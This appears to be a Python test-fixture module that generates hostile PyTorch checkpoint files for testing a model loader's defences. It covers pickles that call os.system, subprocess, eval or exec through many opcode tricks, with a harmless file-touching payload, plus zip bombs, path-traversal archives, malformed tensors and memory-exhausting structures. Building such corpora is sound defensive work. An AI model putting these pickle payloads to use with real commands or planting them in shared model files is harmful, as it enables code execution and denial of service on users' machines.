"""Files that were made to do harm: to run code, to hang a reader, or to make it take all memory there is.

``CORPUS`` has one writer per trick, from a path to a file; the files of ``EXECUTING`` would leave the file
``$HOSTILE_TRACE`` behind in a reader that follows them.
"""

from __future__ import annotations

import io
import pickle
import struct
import tarfile
import zipfile
from collections.abc import Callable, Mapping
from pathlib import Path
from typing import Any, Final

import torch

COMMAND: Final = 'touch "$HOSTILE_TRACE"'
PYTHON: Final = "open(__import__('os').environ['HOSTILE_TRACE'], 'w')"
MAGIC: Final = b"\x80\x02\x8a\x0al\xfc\x9c\x46\xf9\x20\x6a\xa8\x50\x19."


def torch_zip(
    path: Path | io.BytesIO, program: bytes, storages: Mapping[str, bytes] | None = None, method: int = 0
) -> None:
    """Pack a pickle and storages as ``torch.save`` does."""
    with zipfile.ZipFile(path, "w", method) as archive:
        archive.writestr("weights/data.pkl", program)
        archive.writestr("weights/byteorder", "little")
        archive.writestr("weights/version", "3\n")
        for key, content in (storages or {}).items():
            archive.writestr(f"weights/data/{key}", content)


def zipped(program: bytes) -> Callable[[Path], None]:
    return lambda path: torch_zip(path, program)


def legacy(program: bytes, rest: bytes = b"\x80\x02].") -> Callable[[Path], None]:
    head = MAGIC + pickle.dumps(1001, 2) + pickle.dumps({"little_endian": True}, 2)
    return lambda path: path.write_bytes(head + program + rest) and None


def text(value: str) -> bytes:
    return b"X" + struct.pack("<I", len(value.encode())) + value.encode()


def number(value: int) -> bytes:
    content = value.to_bytes(value.bit_length() // 8 + 1, "little", signed=True)
    return b"\x8a" + bytes([len(content)]) + content


def numbers(values: tuple[int, ...]) -> bytes:
    return b"(" + b"".join(map(number, values)) + b"t"


def storage(length: int, key: bytes = b"", kind: str = "FloatStorage") -> bytes:
    """Refer to a storage as torch does."""
    return (
        b"("
        + text("storage")
        + f"ctorch\n{kind}\n".encode()
        + (key or text("0"))
        + text("cpu")
        + number(length)
        + b"tQ"
    )


def tensor(length: int, size: tuple[int, ...], stride: tuple[int, ...], offset: int = 0, **reference: Any) -> bytes:
    parts = storage(length, **reference) + number(offset) + numbers(size) + numbers(stride)
    return b"ctorch._utils\n_rebuild_tensor_v2\n(" + parts + b"\x89}tR"


def state(value: bytes, name: str = "backbone.stem.conv.branch_3x3.conv.weight") -> bytes:
    return b"\x80\x02}" + text(name) + value + b"s."


class Call:
    """Pickles as a call of ``function`` with ``args``."""

    def __init__(self, function: Callable[..., Any], *args: Any) -> None:
        self.call = function, args

    def __reduce__(self) -> tuple[Callable[..., Any], tuple[Any, ...]]:
        return self.call


def _executing() -> dict[str, bytes]:
    import os
    import subprocess

    system = b"cposix\nsystem\n" + text(COMMAND)
    hub = b"ctorch.hub\nload\n(" + text("nobody/nothing") + text("model") + b"tR"
    nested = pickle.dumps(Call(os.system, COMMAND), 2)
    alone = {
        "os.system": pickle.dumps(Call(os.system, COMMAND), 2),
        "os.system, newest protocol": pickle.dumps(Call(os.system, COMMAND), 5),
        "os.system, text protocol": pickle.dumps(Call(os.system, COMMAND), 0),
        "subprocess": pickle.dumps(Call(subprocess.check_output, COMMAND, None), 2),
        "eval": pickle.dumps(Call(eval, PYTHON), 2),
        "exec": pickle.dumps(Call(exec, PYTHON), 4),
        "getattr": b"\x80\x04cbuiltins\ngetattr\ncos\n__dict__\n" + text("system") + b"\x86R.",
        "dotted name": b"\x80\x04" + text("os") + text("path.os.system") + b"\x93" + text(COMMAND) + b"\x85R.",
        "import by name": b"\x80\x02cimportlib\nimport_module\n" + text("antigravity") + b"\x85R.",
        "nested pickle": b"\x80\x03c_pickle\nloads\nC" + bytes([len(nested)]) + nested + b"\x85R.",
        "nested torch file": b"\x80\x03ctorch.storage\n_load_from_bytes\nC" + bytes([len(nested)]) + nested + b"\x85R.",
        "torch.hub": b"\x80\x02" + hub + b".",
        "torch.load": b"\x80\x02ctorch\nload\n" + text("/dev/zero") + b"\x85R.",
        "__setstate__": b"\x80\x02ctorch.nn.modules.linear\nIdentity\n)\x81}"
        + text("__setstate__") + b"cposix\nsystem\nsb" + text(COMMAND) + b"b.",
        "state of a class": b"\x80\x02ctorch\nTensor\n}" + text("__reduce_ex__") + b"cposix\nsystem\nsb.",
        "INST": b"(S'true'\niposix\nsystem\n.".replace(b"true", b"ls"),
        "OBJ": b"(cposix\nsystem\n" + text(COMMAND) + b"o.",
        "NEWOBJ_EX": b"\x80\x04cposix\nsystem\n" + text(COMMAND) + b"\x85}\x92.",
        "NEWOBJ": b"\x80\x04cposix\nsystem\n" + text(COMMAND) + b"\x85\x81.",
        "extension registry": b"\x80\x02\x82\x01.",
        "extension registry, long": b"\x80\x02\x84\xff\xff\xff\x7f.",
        "codecs": b"\x80\x02c_codecs\nlookup\n" + text("zlib") + b"\x85R.",
        "persistent id that is a call": b"\x80\x02" + system + b"\x85RQ.",
        "persistent id that is text": b"Pstorage\n.",
        "out-of-band buffer": b"\x80\x05\x97\x98.",
        "as a key": b"\x80\x02}" + system + b"\x85RNs.",
        "among the weights": b"\x80\x02}" + text("net") + b"}" + text("a") + system + b"\x85Rss.",
        "as a storage": state(tensor(1, (1,), (1,)).replace(b"ctorch\nFloatStorage\n", b"cposix\nsystem\n")),
        "as a dtype": state(b"ctorch._utils\n_rebuild_tensor_v3\n(" + storage(1) + system + b"\x85RtR"),
        "as a hook": state(b"ctorch._utils\n_rebuild_tensor_v2\n(" + storage(1) + b"K\x00))\x89" + system + b"\x85RtR"),
        "as a tensor's own class": state(b"ctorch._tensor\n_rebuild_from_type_v2\n(cposix\nsystem\nctorch\nTensor\n"
        + text(COMMAND) + b"\x85}tR"),
    }  # fmt: skip
    processing = {
        "in processing_params": system + b"\x85R",
        "as a step": b"}" + text("image_processor") + system + b"\x85Rs",
        "as a numpy array": b"}" + text("iou") + b"cnumpy.core.multiarray\nscalar\n" + system + b"\x85RNt\x86R",
    }
    # with a set of weights, so that the processing is looked at
    good = b"\x80\x02}(" + text("net") + state(tensor(1, (1,), (1,)))[2:-1] + text("processing_params")
    return alone | {name: good + value + b"u." for name, value in processing.items()}


EXECUTING: Final = _executing()


def _bomb(path: Path) -> None:
    torch_zip(path, pickle.dumps({"a": 1}), {"0": bytes(300 << 20)}, zipfile.ZIP_DEFLATED)


def _bomb_in_the_pickle(path: Path) -> None:
    torch_zip(path, b"\x80\x02" + b"]0" * (60 << 20) + b"N.", method=zipfile.ZIP_DEFLATED)


def _lying_zip(place: int, value: bytes) -> Callable[[Path], None]:
    """Change the first entry of the list of contents."""

    def write(path: Path) -> None:
        torch_zip(path, pickle.dumps({"a": 1}))
        content = bytearray(path.read_bytes())
        start = content.index(b"PK\x01\x02") + place
        content[start : start + len(value)] = value
        path.write_bytes(content)

    return write


def _huge_directory(path: Path) -> None:
    entry = struct.pack("<4s6H3I5H2I", b"PK\x01\x02", *[0] * 9, 0, 0, 0, 0, 0, 0, 0)
    content = b"PK\x03\x04" + bytes(26) + entry * (32 << 20 >> 6)
    size = len(content) - 30
    path.write_bytes(content + struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, 0xFFFF, 0xFFFF, size, 30, 0))


def _tar(path: Path) -> None:
    with tarfile.open(path, "w") as archive:
        for name in ("sys_info", "pickle", "storages", "tensors", "../../escape"):
            content = EXECUTING["os.system"]
            info = tarfile.TarInfo(name)
            info.size = len(content)
            archive.addfile(info, io.BytesIO(content))


def _traversal(path: Path) -> None:
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("../../../../tmp/hostile/data.pkl", state(tensor(1, (1,), (1,), key=text("../../data.pkl"))))
        archive.writestr("../../../../tmp/hostile/data/../../data.pkl", bytes(4))


def _detector(path: Path, one: Callable[[str, torch.Size], tuple[bytes, int]], storages: dict[str, bytes]) -> None:
    """Write a state dict of YOLO-NAS L with the tensors that ``one`` describes."""
    from yolonas_plugin.nn import CONFIGS, YoloNAS

    with torch.device("meta"):
        template = YoloNAS(CONFIGS["l"]).state_dict()
    program = b"\x80\x02}("
    for name, value in template.items():
        program += text(name) + one(name, value.shape)[0]
    torch_zip(path, program + b"u.", storages)


def _one_storage(path: Path) -> None:
    """All weights look into the same 10 MB."""
    length = 2_700_000

    def one(name: str, shape: torch.Size) -> tuple[bytes, int]:
        kind = "LongStorage" if name.endswith("num_batches_tracked") else "FloatStorage"
        strides = torch.empty(shape, device="meta").stride()
        key = text("1") if kind == "LongStorage" else text("0")
        return tensor(1 if kind == "LongStorage" else length, tuple(shape), strides, key=key, kind=kind), 0

    _detector(path, one, {"0": bytes(length * 4), "1": bytes(8)})


def _no_strides(path: Path) -> None:
    """Every tensor is one number, seen over and over."""

    def one(name: str, shape: torch.Size) -> tuple[bytes, int]:
        return tensor(1, tuple(shape), (0,) * len(shape)), 0

    _detector(path, one, {"0": bytes(4)})


def _doubling(levels: int) -> bytes:
    """Lists that hold the one before them twice."""
    program = b"]q\x000"
    for i in range(levels):
        program += b"](h" + bytes([i]) + b"h" + bytes([i]) + b"eq" + bytes([i + 1]) + b"0"
    return program + b"h" + bytes([levels])


def _doubling_modules(levels: int) -> bytes:
    module = b"ctorch.nn.modules.container\nSequential\n)\x81}" + text("_modules")
    program = module + b"}sbq\x00"
    for i in range(levels):
        children = text("a") + b"h" + bytes([i]) + text("b") + b"h" + bytes([i])
        program += module + b"}(" + children + b"usbq" + bytes([i + 1])
    return program


def _cyclic_module() -> bytes:
    start = b"ctorch.nn.modules.container\nSequential\n)\x81q\x00}" + text("_modules")
    return b"\x80\x02" + start + b"}" + text("a") + b"h\x00ssb."


def _nested_modules(levels: int) -> bytes:
    start = b"ctorch.nn.modules.container\nSequential\n)\x81}" + text("_modules") + b"}" + text("a")
    return b"\x80\x02" + start * levels + b"N" + b"ssb" * levels + b"."


_PARAMS: Final = b"\x80\x02}(" + text("net") + state(tensor(1, (1,), (1,)))[2:-1] + text("processing_params")
_SAME_HASH: Final = b"".join(number(k * ((1 << 61) - 1)) + b"N" for k in range(1, 100_000))

# fmt: off
EXHAUSTING: Final[dict[str, Callable[[Path], None]]] = {
    "zip bomb": _bomb,
    "zip bomb in the pickle": _bomb_in_the_pickle,
    "path traversal": _traversal,
    "zip that claims more than the file": _lying_zip(20, struct.pack("<2I", 1 << 31, 1 << 31)),
    "zip that begins beyond the file": _lying_zip(42, struct.pack("<I", 1 << 31)),
    "zip with a huge list of contents": _huge_directory,
    "tar file": _tar,
    "tensor larger than its storage": zipped(state(tensor(1 << 40, (1 << 40,), (1,)))),
    "tensor of no storage": zipped(state(tensor(0, (1 << 38,), (0,)))),
    "tensor beyond its storage": lambda p: torch_zip(p, state(tensor(4, (2,), (1 << 33,))), {"0": bytes(16)}),
    "tensor before its storage": lambda p: torch_zip(p, state(tensor(4, (2,), (1,), offset=-8)), {"0": bytes(16)}),
    "tensor with negative strides": lambda p: torch_zip(p, state(tensor(4, (2, 2), (-2, 1))), {"0": bytes(16)}),
    "tensor with negative sizes": lambda p: torch_zip(p, state(tensor(4, (-2, -2), (2, 1))), {"0": bytes(16)}),
    "tensor of 10^18 numbers": lambda p: torch_zip(p, state(tensor(1, (10**9, 10**9), (0, 0))), {"0": bytes(4)}),
    "tensor of 64 dimensions": lambda p: torch_zip(p, state(tensor(1, (1,) * 64, (1,) * 64)), {"0": bytes(4)}),
    "tensors that share a storage": _one_storage,
    "tensors without strides": _no_strides,
    "legacy storage that claims too much": legacy(
        state(tensor(1 << 50, (1,), (1,))), pickle.dumps(["0"], 2) + struct.pack("<q", 1 << 50)
    ),
    "legacy storage of negative length": legacy(
        state(tensor(1, (1,), (1,))), pickle.dumps(["0"], 2) + struct.pack("<q", -1)
    ),
    "list that holds itself": zipped(b"\x80\x02]q\x00h\x00a."),
    "dictionary that holds itself": zipped(b"\x80\x02}q\x00" + text("net") + b"h\x00s."),
    "module that holds itself": zipped(_cyclic_module()),
    "modules 10,000 levels deep": zipped(_nested_modules(10_000)),
    "modules that double 60 times": zipped(b"\x80\x02" + _doubling_modules(60) + b"."),
    "lists 10,000 levels deep": zipped(b"\x80\x02" + b"](" * 10_000 + b"e" * 10_000 + b"."),
    "lists 150,000 levels deep": zipped(b"\x80\x02" + b"]" * 150_000 + b"a" * 149_999 + b"."),
    "tuples 10,000 levels deep": zipped(b"\x80\x02)" + b"\x85" * 10_000 + b"."),
    "deep tuple as a key": zipped(b"\x80\x02})" + b"\x85" * 200_000 + b"Ns."),
    "deep tuple in a set": zipped(b"\x80\x04\x8f()" + b"\x85" * 200_000 + b"\x90."),
    "deep frozenset": zipped(b"\x80\x04(" + b"(" * 10_000 + b"\x91" * 10_000 + b"\x91."),
    "deep processing_params": zipped(_PARAMS + b"](" * 10_000 + b"e" * 10_000 + b"u."),
    "deep state": zipped(_PARAMS + (b"}" + text("a")) * 9_000 + b"N" + b"s" * 9_000 + b"u."),
    "processing that doubles 60 times": zipped(_PARAMS + _doubling(60) + b"u."),
    "processing that holds itself": zipped(_PARAMS + b"}q\x00" + text("image_processor") + b"h\x00su."),
    "keys of the same hash": zipped(b"\x80\x02}(" + _SAME_HASH + b"u."),
    "huge memo": zipped(b"\x80\x02]r\xff\xff\xff\xff."),
    "memo of a huge number": zipped(b"]p" + b"9" * 1_000_000 + b"\n."),
    "memo of many": zipped(b"\x80\x04]" + b"\x94" * 10_000_000 + b"."),
    "many empty sets": zipped(b"\x80\x04" + b"\x8f" * 12_000_000 + b"."),
    "many empty lists, legacy": legacy(b"\x80\x04" + b"]" * 12_000_000 + b"."),
    "a number of a million digits": zipped(b"L" + b"9" * 1_000_000 + b"L\n."),
    "a number of a million bytes": zipped(b"\x80\x02\x8b" + struct.pack("<I", 1_000_000) + b"\x7f" * 1_000_000 + b"."),
    "text that claims 2^62 bytes": zipped(b"\x80\x04\x8d" + struct.pack("<Q", 1 << 62) + b"a."),
    "bytes that claim 2^62 bytes": zipped(b"\x80\x04\x8e" + struct.pack("<Q", 1 << 62) + b"a."),
    "bytearray that claims 2^62 bytes": zipped(b"\x80\x05\x96" + struct.pack("<Q", 1 << 62) + b"a."),
    "frame that claims 2^62 bytes": zipped(b"\x80\x04\x95" + struct.pack("<Q", 1 << 62) + b"N."),
    "wide text": zipped(b"\x80\x02" + text("a" * (15 << 20) + "\U0001f600") + b"."),
    "pickle of 100 MB": zipped(b"\x80\x02B" + struct.pack("<I", 100 << 20) + bytes(100 << 20) + b"."),
    "a dictionary that is copied over and over": zipped(
        b"\x80\x02ccollections\nOrderedDict\nq\x00](" + b"".join(number(i) + b"N\x86" for i in range(5000)) + b"eq\x01"
        + b"h\x00h\x01\x85R" * 20_000 + b"."
    ),
    "array that claims too much": zipped(
        _PARAMS + b"}" + text("iou") + b"cnumpy.core.multiarray\n_reconstruct\ncnumpy\nndarray\nK\x00\x85U\x01b\x87R("
        + b"K\x01" + number(1 << 40) + b"\x85cnumpy\ndtype\nU\x02f8K\x00K\x01\x87R\x89U\x08aaaaaaaatbsu."
    ),
    "array of objects": zipped(
        _PARAMS + b"}" + text("iou") + b"cnumpy.core.multiarray\nscalar\ncnumpy\ndtype\nU\x02O8K\x00K\x01\x87R"
        + b"U\x08aaaaaaaa\x86Rsu."
    ),
    "safetensors with a header of 2^39 bytes": lambda p: p.write_bytes(struct.pack("<Q", 1 << 39) + b"{}") and None,
    "safetensors with a huge header": lambda p: p.write_bytes(
        struct.pack("<Q", 50 << 20) + b'{"__metadata__":{"a":"' + b"a" * (50 << 20)
    ) and None,
    "safetensors nested 100,000 levels": lambda p: p.write_bytes(
        struct.pack("<Q", 500_005) + b'{"a":' * 100_000 + b"1    "
    ) and None,
}
# fmt: on

CORPUS: Final[dict[str, Callable[[Path], None]]] = {
    **{f"{name}, zip": zipped(program) for name, program in EXECUTING.items()},
    **{f"{name}, legacy": legacy(program) for name, program in EXECUTING.items()},
    **{
        f"{name}, bare": (lambda p, program=program: p.write_bytes(program) and None)
        for name, program in EXECUTING.items()
    },
    **EXHAUSTING,
}
